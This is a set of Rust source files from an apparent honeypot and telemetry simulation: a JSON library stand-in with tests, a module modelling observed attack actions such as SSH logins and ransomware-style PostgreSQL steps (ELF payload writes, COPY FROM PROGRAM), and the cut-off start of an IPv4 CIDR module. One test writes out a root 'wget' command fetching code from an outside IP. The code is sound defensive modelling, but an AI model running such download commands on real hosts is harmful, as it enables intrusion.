        assert_eq!(to_string(&v).unwrap(), "{\"hits\":137,\"neg\":-3}");
    }

    #[test]
    fn escaping() {
        let v = json!({"msg": "a\"b\\c\nd"});
        assert_eq!(to_string(&v).unwrap(), "{\"msg\":\"a\\\"b\\\\c\\nd\"}");
    }

    #[test]
    fn vec_interpolation() {
        let years: Vec<i32> = vec![2002, 2024];
        let v = json!({ "years": years });
        assert_eq!(v.get("years").as_array().unwrap().len(), 2);
    }

    #[test]
    fn expression_values() {
        // Method-call and path expressions must interpolate, not parse as
        // JSON literals.
        let xs = [1.0f64, 2.0, 3.0];
        let v = json!({
            "sum": xs.iter().sum::<f64>(),
            "arr": xs.iter().map(|x| json!(x * 2.0)).collect::<Vec<_>>(),
        });
        assert_eq!(v.get("sum").as_f64(), Some(6.0));
        assert_eq!(v.get("arr").as_array().unwrap().len(), 3);
    }
}
