//! Offline stand-in for `serde_json`, covering the subset the workspace
//! uses: the dynamic [`Value`] tree, the [`json!`] constructor macro,
//! compact/pretty serialization to strings, and a [`from_str`] parser for
//! reading those strings back (service snapshots round-trip through
//! disk). Object keys preserve insertion order (like serde_json with its
//! `preserve_order` feature), so artifact files diff cleanly across runs.

use std::collections::BTreeMap;
use std::fmt;

/// A JSON number: integers are kept exact so artifacts print `137`, not
/// `137.0`.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Number {
    I64(i64),
    U64(u64),
    F64(f64),
}

impl fmt::Display for Number {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Number::I64(v) => write!(f, "{v}"),
            Number::U64(v) => write!(f, "{v}"),
            Number::F64(v) => {
                if v.is_finite() {
                    write!(f, "{v}")
                } else {
                    // JSON has no Inf/NaN; mirror serde_json's `null`.
                    write!(f, "null")
                }
            }
        }
    }
}

/// A dynamically-typed JSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    Null,
    Bool(bool),
    Number(Number),
    String(String),
    Array(Vec<Value>),
    /// Insertion-ordered object.
    Object(Vec<(String, Value)>),
}

impl Value {
    pub fn is_null(&self) -> bool {
        matches!(self, Value::Null)
    }

    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::Number(Number::I64(v)) => Some(*v as f64),
            Value::Number(Number::U64(v)) => Some(*v as f64),
            Value::Number(Number::F64(v)) => Some(*v),
            _ => None,
        }
    }

    pub fn as_u64(&self) -> Option<u64> {
        match self {
            Value::Number(Number::U64(v)) => Some(*v),
            Value::Number(Number::I64(v)) if *v >= 0 => Some(*v as u64),
            _ => None,
        }
    }

    pub fn as_i64(&self) -> Option<i64> {
        match self {
            Value::Number(Number::I64(v)) => Some(*v),
            Value::Number(Number::U64(v)) if *v <= i64::MAX as u64 => Some(*v as i64),
            _ => None,
        }
    }

    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Value::Bool(b) => Some(*b),
            _ => None,
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::String(s) => Some(s),
            _ => None,
        }
    }

    pub fn as_object(&self) -> Option<&Vec<(String, Value)>> {
        match self {
            Value::Object(fields) => Some(fields),
            _ => None,
        }
    }

    pub fn as_array(&self) -> Option<&Vec<Value>> {
        match self {
            Value::Array(a) => Some(a),
            _ => None,
        }
    }

    /// Object field lookup; returns `Null` for non-objects/missing keys.
    pub fn get(&self, key: &str) -> &Value {
        const NULL: Value = Value::Null;
        match self {
            Value::Object(fields) => fields
                .iter()
                .find(|(k, _)| k == key)
                .map(|(_, v)| v)
                .unwrap_or(&NULL),
            _ => &NULL,
        }
    }

    fn write(&self, out: &mut String, indent: Option<usize>, level: usize) {
        match self {
            Value::Null => out.push_str("null"),
            Value::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
            Value::Number(n) => out.push_str(&n.to_string()),
            Value::String(s) => write_escaped(out, s),
            Value::Array(items) => {
                write_seq(out, indent, level, '[', ']', items.len(), |out, i| {
                    items[i].write(out, indent, level + 1)
                })
            }
            Value::Object(fields) => {
                write_seq(out, indent, level, '{', '}', fields.len(), |out, i| {
                    let (k, v) = &fields[i];
                    write_escaped(out, k);
                    out.push(':');
                    if indent.is_some() {
                        out.push(' ');
                    }
                    v.write(out, indent, level + 1)
                })
            }
        }
    }
}

fn write_escaped(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

fn write_seq(
    out: &mut String,
    indent: Option<usize>,
    level: usize,
    open: char,
    close: char,
    len: usize,
    mut item: impl FnMut(&mut String, usize),
) {
    out.push(open);
    if len == 0 {
        out.push(close);
        return;
    }
    for i in 0..len {
        if i > 0 {
            out.push(',');
        }
        if let Some(width) = indent {
            out.push('\n');
            out.push_str(&" ".repeat(width * (level + 1)));
        }
        item(out, i);
    }
    if let Some(width) = indent {
        out.push('\n');
        out.push_str(&" ".repeat(width * level));
    }
    out.push(close);
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut s = String::new();
        self.write(&mut s, None, 0);
        f.write_str(&s)
    }
}

/// Compact serialization.
pub fn to_string(value: &Value) -> Result<String, Error> {
    let mut s = String::new();
    value.write(&mut s, None, 0);
    Ok(s)
}

/// Two-space-indented serialization, matching serde_json's pretty style.
pub fn to_string_pretty(value: &Value) -> Result<String, Error> {
    let mut s = String::new();
    value.write(&mut s, Some(2), 0);
    Ok(s)
}

/// Parse a JSON document into a [`Value`] tree.
///
/// Accepts exactly what [`to_string`]/[`to_string_pretty`] emit (plus
/// arbitrary standard JSON): numbers keep their integer/float identity
/// when the text has no fraction/exponent, strings decode the usual
/// escapes including `\uXXXX` pairs. Trailing non-whitespace after the
/// document is an error, so truncated snapshot files fail loudly.
pub fn from_str(input: &str) -> Result<Value, Error> {
    let bytes = input.as_bytes();
    let mut pos = 0usize;
    let value = parse_value(bytes, &mut pos)?;
    skip_ws(bytes, &mut pos);
    if pos != bytes.len() {
        return Err(Error(format!("trailing characters at byte {pos}")));
    }
    Ok(value)
}

fn skip_ws(bytes: &[u8], pos: &mut usize) {
    while *pos < bytes.len() && matches!(bytes[*pos], b' ' | b'\t' | b'\n' | b'\r') {
        *pos += 1;
    }
}

fn expect(bytes: &[u8], pos: &mut usize, b: u8) -> Result<(), Error> {
    if *pos < bytes.len() && bytes[*pos] == b {
        *pos += 1;
        Ok(())
    } else {
        Err(Error(format!("expected `{}` at byte {}", b as char, *pos)))
    }
}

fn parse_value(bytes: &[u8], pos: &mut usize) -> Result<Value, Error> {
    skip_ws(bytes, pos);
    match bytes.get(*pos) {
        None => Err(Error("unexpected end of input".into())),
        Some(b'n') => parse_keyword(bytes, pos, "null", Value::Null),
        Some(b't') => parse_keyword(bytes, pos, "true", Value::Bool(true)),
        Some(b'f') => parse_keyword(bytes, pos, "false", Value::Bool(false)),
        Some(b'"') => parse_string(bytes, pos).map(Value::String),
        Some(b'[') => {
            *pos += 1;
            let mut items = Vec::new();
            skip_ws(bytes, pos);
            if bytes.get(*pos) == Some(&b']') {
                *pos += 1;
                return Ok(Value::Array(items));
            }
            loop {
                items.push(parse_value(bytes, pos)?);
                skip_ws(bytes, pos);
                match bytes.get(*pos) {
                    Some(b',') => *pos += 1,
                    Some(b']') => {
                        *pos += 1;
                        return Ok(Value::Array(items));
                    }
                    _ => return Err(Error(format!("expected `,` or `]` at byte {pos}"))),
                }
            }
        }
        Some(b'{') => {
            *pos += 1;
            let mut fields = Vec::new();
            skip_ws(bytes, pos);
            if bytes.get(*pos) == Some(&b'}') {
                *pos += 1;
                return Ok(Value::Object(fields));
            }
            loop {
                skip_ws(bytes, pos);
                let key = parse_string(bytes, pos)?;
                skip_ws(bytes, pos);
                expect(bytes, pos, b':')?;
                fields.push((key, parse_value(bytes, pos)?));
                skip_ws(bytes, pos);
                match bytes.get(*pos) {
                    Some(b',') => *pos += 1,
                    Some(b'}') => {
                        *pos += 1;
                        return Ok(Value::Object(fields));
                    }
                    _ => return Err(Error(format!("expected `,` or `}}` at byte {pos}"))),
                }
            }
        }
        Some(_) => parse_number(bytes, pos),
    }
}

fn parse_keyword(bytes: &[u8], pos: &mut usize, word: &str, value: Value) -> Result<Value, Error> {
    if bytes[*pos..].starts_with(word.as_bytes()) {
        *pos += word.len();
        Ok(value)
    } else {
        Err(Error(format!("invalid literal at byte {pos}")))
    }
}

fn parse_string(bytes: &[u8], pos: &mut usize) -> Result<String, Error> {
    expect(bytes, pos, b'"')?;
    let mut out = String::new();
    loop {
        match bytes.get(*pos) {
            None => return Err(Error("unterminated string".into())),
            Some(b'"') => {
                *pos += 1;
                return Ok(out);
            }
            Some(b'\\') => {
                *pos += 1;
                match bytes.get(*pos) {
                    Some(b'"') => out.push('"'),
                    Some(b'\\') => out.push('\\'),
                    Some(b'/') => out.push('/'),
                    Some(b'b') => out.push('\u{8}'),
                    Some(b'f') => out.push('\u{c}'),
                    Some(b'n') => out.push('\n'),
                    Some(b'r') => out.push('\r'),
                    Some(b't') => out.push('\t'),
                    Some(b'u') => {
                        let first = parse_hex4(bytes, pos)?;
                        let c = if (0xD800..0xDC00).contains(&first) {
                            // High surrogate: a `\uXXXX` low surrogate
                            // must follow.
                            if bytes.get(*pos + 1) != Some(&b'\\')
                                || bytes.get(*pos + 2) != Some(&b'u')
                            {
                                return Err(Error("unpaired surrogate".into()));
                            }
                            *pos += 2;
                            let second = parse_hex4(bytes, pos)?;
                            if !(0xDC00..0xE000).contains(&second) {
                                return Err(Error("invalid low surrogate".into()));
                            }
                            let cp = 0x10000 + ((first - 0xD800) << 10) + (second - 0xDC00);
                            char::from_u32(cp).ok_or_else(|| Error("bad code point".into()))?
                        } else {
                            char::from_u32(first).ok_or_else(|| Error("bad code point".into()))?
                        };
                        out.push(c);
                    }
                    _ => return Err(Error(format!("bad escape at byte {pos}"))),
                }
                *pos += 1;
            }
            Some(_) => {
                // Copy the whole run up to the next quote/escape in one
                // append; the input is a &str so the boundaries are valid
                // by construction. (Per-character validation of the full
                // remaining input would make parsing quadratic — fatal on
                // multi-megabyte snapshot fixtures.)
                let start = *pos;
                while let Some(&b) = bytes.get(*pos) {
                    if b == b'"' || b == b'\\' {
                        break;
                    }
                    *pos += 1;
                }
                let s = std::str::from_utf8(&bytes[start..*pos])
                    .map_err(|_| Error("invalid utf-8".into()))?;
                out.push_str(s);
            }
        }
    }
}

fn parse_hex4(bytes: &[u8], pos: &mut usize) -> Result<u32, Error> {
    // `*pos` sits on the `u`; consume the four hex digits after it.
    let start = *pos + 1;
    let digits = bytes
        .get(start..start + 4)
        .ok_or_else(|| Error("truncated \\u escape".into()))?;
    let s = std::str::from_utf8(digits).map_err(|_| Error("bad \\u escape".into()))?;
    let v = u32::from_str_radix(s, 16).map_err(|_| Error("bad \\u escape".into()))?;
    *pos += 4;
    Ok(v)
}

fn parse_number(bytes: &[u8], pos: &mut usize) -> Result<Value, Error> {
    let start = *pos;
    if bytes.get(*pos) == Some(&b'-') {
        *pos += 1;
    }
    let mut is_float = false;
    while let Some(&b) = bytes.get(*pos) {
        match b {
            b'0'..=b'9' => *pos += 1,
            b'.' | b'e' | b'E' | b'+' | b'-' => {
                is_float = true;
                *pos += 1;
            }
            _ => break,
        }
    }
    let text = std::str::from_utf8(&bytes[start..*pos]).map_err(|_| Error("bad number".into()))?;
    if text.is_empty() || text == "-" {
        return Err(Error(format!("expected number at byte {start}")));
    }
    if !is_float {
        if text.starts_with('-') {
            if let Ok(v) = text.parse::<i64>() {
                return Ok(Value::Number(Number::I64(v)));
            }
        } else if let Ok(v) = text.parse::<u64>() {
            return Ok(Value::Number(Number::U64(v)));
        }
    }
    text.parse::<f64>()
        .map(|v| Value::Number(Number::F64(v)))
        .map_err(|_| Error(format!("invalid number `{text}`")))
}

/// Serialization error (cannot occur for `Value` trees; kept for API
/// compatibility with call sites that `.expect(..)` the result), also
/// returned by [`from_str`] on malformed input.
#[derive(Debug)]
pub struct Error(String);

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for Error {}

// ---- conversions used by json!{} interpolation sites ----

impl From<bool> for Value {
    fn from(v: bool) -> Value {
        Value::Bool(v)
    }
}

impl From<String> for Value {
    fn from(v: String) -> Value {
        Value::String(v)
    }
}

impl From<&str> for Value {
    fn from(v: &str) -> Value {
        Value::String(v.to_string())
    }
}

impl From<&String> for Value {
    fn from(v: &String) -> Value {
        Value::String(v.clone())
    }
}

impl From<&&str> for Value {
    fn from(v: &&str) -> Value {
        Value::String((*v).to_string())
    }
}

/// Tuples become two-element arrays (used for `(x, y)` sweep points).
impl<A, B> From<(A, B)> for Value
where
    Value: From<A> + From<B>,
{
    fn from((a, b): (A, B)) -> Value {
        Value::Array(vec![Value::from(a), Value::from(b)])
    }
}

macro_rules! from_signed {
    ($($t:ty),*) => {$(
        impl From<$t> for Value {
            fn from(v: $t) -> Value { Value::Number(Number::I64(v as i64)) }
        }
    )*};
}
macro_rules! from_unsigned {
    ($($t:ty),*) => {$(
        impl From<$t> for Value {
            fn from(v: $t) -> Value { Value::Number(Number::U64(v as u64)) }
        }
    )*};
}
from_signed!(i8, i16, i32, i64, isize);
from_unsigned!(u8, u16, u32, u64, usize);

impl From<f32> for Value {
    fn from(v: f32) -> Value {
        Value::Number(Number::F64(v as f64))
    }
}

impl From<f64> for Value {
    fn from(v: f64) -> Value {
        Value::Number(Number::F64(v))
    }
}

impl<T> From<Option<T>> for Value
where
    Value: From<T>,
{
    fn from(v: Option<T>) -> Value {
        match v {
            Some(x) => Value::from(x),
            None => Value::Null,
        }
    }
}

impl<T> From<Vec<T>> for Value
where
    Value: From<T>,
{
    fn from(v: Vec<T>) -> Value {
        Value::Array(v.into_iter().map(Value::from).collect())
    }
}

impl<T: Clone> From<&[T]> for Value
where
    Value: From<T>,
{
    fn from(v: &[T]) -> Value {
        Value::Array(v.iter().cloned().map(Value::from).collect())
    }
}

impl<T: Clone> From<&Vec<T>> for Value
where
    Value: From<T>,
{
    fn from(v: &Vec<T>) -> Value {
        Value::Array(v.iter().cloned().map(Value::from).collect())
    }
}

impl<K: Into<String>, V> From<BTreeMap<K, V>> for Value
where
    Value: From<V>,
{
    fn from(m: BTreeMap<K, V>) -> Value {
        Value::Object(
            m.into_iter()
                .map(|(k, v)| (k.into(), Value::from(v)))
                .collect(),
        )
    }
}

/// Build a [`Value`] with JSON syntax; interpolated expressions go
/// through `Value::from`.
///
/// Values in objects/arrays may be JSON literals (`null`, `true`,
/// nested `{..}`/`[..]`) or arbitrary Rust expressions; literal forms are
/// tried first so a nested `{"a": 1}` is parsed as JSON rather than as a
/// (malformed) block expression.
#[macro_export]
macro_rules! json {
    (null) => { $crate::Value::Null };
    (true) => { $crate::Value::Bool(true) };
    (false) => { $crate::Value::Bool(false) };
    ([ $($tt:tt)* ]) => { $crate::json_array!([] $($tt)*) };
    ({ $($tt:tt)* }) => { $crate::json_object!(() $($tt)*) };
    ($other:expr) => { $crate::Value::from($other) };
}

/// Internal: array accumulator — `[done elems] remaining tokens...`.
#[doc(hidden)]
#[macro_export]
macro_rules! json_array {
    ([ $($done:expr),* ]) => { $crate::Value::Array(vec![ $($done),* ]) };
    // JSON-literal elements, with and without a following comma.
    ([ $($done:expr),* ] null , $($rest:tt)*) => {
        $crate::json_array!([ $($done,)* $crate::Value::Null ] $($rest)*)
    };
    ([ $($done:expr),* ] null) => {
        $crate::json_array!([ $($done,)* $crate::Value::Null ])
    };
    ([ $($done:expr),* ] { $($inner:tt)* } , $($rest:tt)*) => {
        $crate::json_array!([ $($done,)* $crate::json_object!(() $($inner)*) ] $($rest)*)
    };
    ([ $($done:expr),* ] { $($inner:tt)* }) => {
        $crate::json_array!([ $($done,)* $crate::json_object!(() $($inner)*) ])
    };
    ([ $($done:expr),* ] [ $($inner:tt)* ] , $($rest:tt)*) => {
        $crate::json_array!([ $($done,)* $crate::json_array!([] $($inner)*) ] $($rest)*)
    };
    ([ $($done:expr),* ] [ $($inner:tt)* ]) => {
        $crate::json_array!([ $($done,)* $crate::json_array!([] $($inner)*) ])
    };
    // Arbitrary expression elements.
    ([ $($done:expr),* ] $next:expr , $($rest:tt)*) => {
        $crate::json_array!([ $($done,)* $crate::Value::from($next) ] $($rest)*)
    };
    ([ $($done:expr),* ] $next:expr) => {
        $crate::json_array!([ $($done,)* $crate::Value::from($next) ])
    };
}

/// Internal: object accumulator — `(done pairs) remaining tokens...`.
#[doc(hidden)]
#[macro_export]
macro_rules! json_object {
    (( $($done:expr),* )) => { $crate::Value::Object(vec![ $($done),* ]) };
    // JSON-literal values, with and without a following comma.
    (( $($done:expr),* ) $key:literal : null , $($rest:tt)*) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::Value::Null) ) $($rest)*)
    };
    (( $($done:expr),* ) $key:literal : null) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::Value::Null) ))
    };
    (( $($done:expr),* ) $key:literal : { $($inner:tt)* } , $($rest:tt)*) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::json_object!(() $($inner)*)) ) $($rest)*)
    };
    (( $($done:expr),* ) $key:literal : { $($inner:tt)* }) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::json_object!(() $($inner)*)) ))
    };
    (( $($done:expr),* ) $key:literal : [ $($inner:tt)* ] , $($rest:tt)*) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::json_array!([] $($inner)*)) ) $($rest)*)
    };
    (( $($done:expr),* ) $key:literal : [ $($inner:tt)* ]) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::json_array!([] $($inner)*)) ))
    };
    // Arbitrary expression values.
    (( $($done:expr),* ) $key:literal : $val:expr , $($rest:tt)*) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::Value::from($val)) ) $($rest)*)
    };
    (( $($done:expr),* ) $key:literal : $val:expr) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::Value::from($val)) ))
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literals_and_interpolation() {
        let n = 3usize;
        let v = json!({
            "name": "bp",
            "n": n,
            "pi": 3.5,
            "ok": true,
            "missing": null,
            "opt": Some(7u32),
            "none": Option::<u32>::None,
            "seq": [1, 2, 3],
            "nested": {"a": [true, "x"]},
        });
        assert_eq!(v.get("name").as_str(), Some("bp"));
        assert_eq!(v.get("n").as_f64(), Some(3.0));
        assert_eq!(v.get("opt").as_f64(), Some(7.0));
        assert!(v.get("none").is_null());
        assert_eq!(v.get("seq").as_array().unwrap().len(), 3);
        assert_eq!(v.get("nested").get("a").as_array().unwrap().len(), 2);
    }

    #[test]
    fn pretty_roundtrips_integers_exactly() {
        let v = json!({"hits": 137u64, "neg": -3i64});
        let s = to_string_pretty(&v).unwrap();
        assert!(s.contains("\"hits\": 137"), "{s}");
        assert!(s.contains("\"neg\": -3"), "{s}");
        assert_eq!(to_string(&v).unwrap(), "{\"hits\":137,\"neg\":-3}");
    }

    #[test]
    fn escaping() {
        let v = json!({"msg": "a\"b\\c\nd"});
        assert_eq!(to_string(&v).unwrap(), "{\"msg\":\"a\\\"b\\\\c\\nd\"}");
    }

    #[test]
    fn vec_interpolation() {
        let years: Vec<i32> = vec![2002, 2024];
        let v = json!({ "years": years });
        assert_eq!(v.get("years").as_array().unwrap().len(), 2);
    }

    #[test]
    fn parse_roundtrips_compact_and_pretty() {
        let v = json!({
            "name": "bp \"quoted\"\n",
            "hits": 137u64,
            "neg": -3i64,
            "mass": 0.1234567890123,
            "flag": true,
            "gap": null,
            "seq": [1u64, [2.5, "x"], {}],
            "empty": [],
        });
        let compact = to_string(&v).unwrap();
        let pretty = to_string_pretty(&v).unwrap();
        assert_eq!(from_str(&compact).unwrap(), v);
        assert_eq!(from_str(&pretty).unwrap(), v);
    }

    #[test]
    fn parse_escapes_and_unicode() {
        let v = from_str(r#"{"s": "aA\n\té 😀"}"#).unwrap();
        assert_eq!(v.get("s").as_str(), Some("aA\n\té 😀"));
    }

    #[test]
    fn parse_number_identity() {
        let v = from_str("[137, -3, 2.5, 1e3, 18446744073709551615]").unwrap();
        let a = v.as_array().unwrap();
        assert_eq!(a[0], Value::Number(Number::U64(137)));
        assert_eq!(a[1], Value::Number(Number::I64(-3)));
        assert_eq!(a[2], Value::Number(Number::F64(2.5)));
        assert_eq!(a[3], Value::Number(Number::F64(1000.0)));
        assert_eq!(a[4], Value::Number(Number::U64(u64::MAX)));
    }

    #[test]
    fn parse_rejects_malformed() {
        for bad in [
            "",
            "{",
            "[1,]",
            "{\"a\":}",
            "tru",
            "\"unterminated",
            "{} trailing",
            "nan",
        ] {
            assert!(from_str(bad).is_err(), "accepted {bad:?}");
        }
    }

    #[test]
    fn expression_values() {
        // Method-call and path expressions must interpolate, not parse as
        // JSON literals.
        let xs = [1.0f64, 2.0, 3.0];
        let v = json!({
            "sum": xs.iter().sum::<f64>(),
            "arr": xs.iter().map(|x| json!(x * 2.0)).collect::<Vec<_>>(),
        });
        assert_eq!(v.get("sum").as_f64(), Some(6.0));
        assert_eq!(v.get("arr").as_array().unwrap().len(), 3);
    }
}
