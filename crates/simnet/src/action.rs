//! Observable actions.
//!
//! An [`Action`] is something that *happens* in the simulated environment —
//! a connection, an HTTP request, an SSH authentication, a database command,
//! a process execution, a file operation. Monitors (crate `telemetry`)
//! observe actions and produce log records; one action may be observed by
//! several monitors (e.g. an SSH login appears in both the Zeek `ssh.log`
//! and the host auth log), exactly as in the paper's multi-monitor setup
//! (§III-B: "an attacker may tamper with one monitor ... it would be
//! challenging to manipulate all monitors").

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use crate::flow::Flow;
use crate::topology::HostId;

/// HTTP request observed on a flow.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HttpAction {
    pub flow: Flow,
    pub method: String,
    /// Host header (may be a raw IP, which is itself suspicious).
    pub host: String,
    pub uri: String,
    pub status: u16,
    /// Response MIME type as a Zeek file analyzer would tag it.
    pub mime: String,
    pub user_agent: String,
}

/// SSH authentication attempt observed on a flow.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SshAuthAction {
    pub flow: Flow,
    /// The host the authentication happened on (internal target), if known.
    pub target: Option<HostId>,
    pub user: String,
    pub method: AuthMethod,
    pub success: bool,
    pub client_banner: String,
}

/// Authentication mechanism.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum AuthMethod {
    Password,
    PublicKey,
    HostBased,
}

/// Database wire commands the honeypot PostgreSQL emulator distinguishes
/// (§V's ransomware steps 1–3 map onto these).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum DbCommandKind {
    /// Authentication attempt with the given outcome.
    Auth { success: bool },
    /// `SHOW server_version_num` style reconnaissance.
    ShowVersion,
    /// Ordinary SQL query.
    Query,
    /// Writing a binary payload into a `largeobject` (hex-encoded).
    LargeObjectWrite { hex_prefix: String, bytes: u64 },
    /// `lo_export` writing a file onto the server disk.
    LoExport { path: String },
    /// `COPY ... FROM PROGRAM` style command execution.
    CopyFromProgram { program: String },
}

/// A database session command observed on a flow.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DbAction {
    pub flow: Flow,
    pub target: Option<HostId>,
    pub user: String,
    pub command: DbCommandKind,
    /// Raw statement text (sanitized downstream).
    pub statement: String,
}

/// Process execution on a monitored host.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ExecAction {
    pub host: HostId,
    pub user: String,
    pub pid: u32,
    pub ppid: u32,
    pub exe: String,
    pub cmdline: String,
}

/// Kind of file operation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum FileOp {
    Create,
    Modify,
    Delete,
    Chmod,
    Truncate,
    Read,
}

/// File operation on a monitored host.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FileOpAction {
    pub host: HostId,
    pub user: String,
    pub path: String,
    pub op: FileOp,
    /// Executable responsible for the operation.
    pub process: String,
}

/// Raw audit (syscall) record on a monitored host, auditd-style.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AuditAction {
    pub host: HostId,
    pub user: String,
    pub syscall: String,
    pub args: String,
    pub exit_code: i32,
}

/// Anything that happens in the simulated environment.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Action {
    /// Bare network flow with no modeled application payload.
    Flow(Flow),
    Http(HttpAction),
    SshAuth(SshAuthAction),
    Db(DbAction),
    Exec(ExecAction),
    FileOp(FileOpAction),
    Audit(AuditAction),
}

impl Action {
    /// The network flow carried by this action, if any.
    pub fn flow(&self) -> Option<&Flow> {
        match self {
            Action::Flow(f) => Some(f),
            Action::Http(a) => Some(&a.flow),
            Action::SshAuth(a) => Some(&a.flow),
            Action::Db(a) => Some(&a.flow),
            Action::Exec(_) | Action::FileOp(_) | Action::Audit(_) => None,
        }
    }

    /// The host the action executes on, for host-side actions.
    pub fn host(&self) -> Option<HostId> {
        match self {
            Action::Exec(a) => Some(a.host),
            Action::FileOp(a) => Some(a.host),
            Action::Audit(a) => Some(a.host),
            Action::SshAuth(a) => a.target,
            Action::Db(a) => a.target,
            Action::Flow(_) | Action::Http(_) => None,
        }
    }

    /// Source address of the action, when network-borne.
    pub fn src_addr(&self) -> Option<Ipv4Addr> {
        self.flow().map(|f| f.src)
    }

    /// Short tag for debugging/telemetry routing.
    pub fn kind_name(&self) -> &'static str {
        match self {
            Action::Flow(_) => "flow",
            Action::Http(_) => "http",
            Action::SshAuth(_) => "ssh_auth",
            Action::Db(_) => "db",
            Action::Exec(_) => "exec",
            Action::FileOp(_) => "file_op",
            Action::Audit(_) => "audit",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::flow::FlowId;
    use crate::time::SimTime;

    fn sample_flow() -> Flow {
        Flow::probe(
            FlowId(9),
            SimTime::from_secs(1),
            "111.200.3.4".parse().unwrap(),
            "141.142.77.10".parse().unwrap(),
            5432,
        )
    }

    #[test]
    fn flow_extraction() {
        let a = Action::Db(DbAction {
            flow: sample_flow(),
            target: Some(HostId(3)),
            user: "postgres".into(),
            command: DbCommandKind::ShowVersion,
            statement: "SHOW server_version_num".into(),
        });
        assert_eq!(a.flow().unwrap().dst_port, 5432);
        assert_eq!(a.host(), Some(HostId(3)));
        assert_eq!(a.src_addr(), Some("111.200.3.4".parse().unwrap()));
        assert_eq!(a.kind_name(), "db");
    }

    #[test]
    fn host_actions_have_no_flow() {
        let a = Action::Exec(ExecAction {
            host: HostId(1),
            user: "root".into(),
            pid: 7036,
            ppid: 1,
            exe: "/usr/bin/wget".into(),
            cmdline: "wget 64.215.4.5/abs.c".into(),
        });
        assert!(a.flow().is_none());
        assert_eq!(a.host(), Some(HostId(1)));
        assert!(a.src_addr().is_none());
    }

    #[test]
    fn largeobject_write_carries_elf_prefix() {
        let cmd = DbCommandKind::LargeObjectWrite {
            hex_prefix: "7F454C46".into(),
            bytes: 48_000,
        };
        match cmd {
            DbCommandKind::LargeObjectWrite { ref hex_prefix, .. } => {
                assert!(hex_prefix.starts_with("7F454C46"));
            }
            _ => unreachable!(),
        }
    }
}
