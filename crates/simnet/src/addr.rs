//! IPv4 address-space modelling.
//!
//! NCSA's deployment uses a dedicated class-B (/16) range — 65,536 host
//! addresses — with a /24 honeynet segment carved out of it (§IV-C). This
//! module provides CIDR blocks with containment/iteration, plus helpers for
//! carving sub-blocks and drawing random hosts, which the scenario
//! generators use to model scanners sweeping the full /16.

use std::fmt;
use std::net::Ipv4Addr;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

/// A CIDR block of IPv4 addresses.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Cidr {
    base: u32,
    prefix: u8,
}

/// Error returned when parsing a CIDR string fails.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CidrParseError(pub String);

impl fmt::Display for CidrParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid CIDR: {}", self.0)
    }
}

impl std::error::Error for CidrParseError {}

impl Cidr {
    /// Create a CIDR block. The base address is masked to the prefix.
    ///
    /// # Panics
    /// Panics if `prefix > 32`.
    pub fn new(base: Ipv4Addr, prefix: u8) -> Self {
        assert!(prefix <= 32, "prefix {prefix} out of range");
        let raw = u32::from(base) & Self::mask_bits(prefix);
        Cidr { base: raw, prefix }
    }

    fn mask_bits(prefix: u8) -> u32 {
        if prefix == 0 {
            0
        } else {
            u32::MAX << (32 - prefix)
        }
    }

    /// The (masked) network base address.
    pub fn base(&self) -> Ipv4Addr {
        Ipv4Addr::from(self.base)
    }

    /// The prefix length.
    pub fn prefix(&self) -> u8 {
        self.prefix
    }

    /// Number of addresses in the block (2^(32-prefix)).
    pub fn size(&self) -> u64 {
        1u64 << (32 - self.prefix)
    }

    /// Whether `addr` falls inside this block.
    pub fn contains(&self, addr: Ipv4Addr) -> bool {
        u32::from(addr) & Self::mask_bits(self.prefix) == self.base
    }

    /// The `i`-th address of the block.
    ///
    /// # Panics
    /// Panics if `i >= self.size()`.
    pub fn nth(&self, i: u64) -> Ipv4Addr {
        assert!(
            i < self.size(),
            "index {i} out of range for /{}",
            self.prefix
        );
        Ipv4Addr::from(self.base + i as u32)
    }

    /// Iterate over every address in the block.
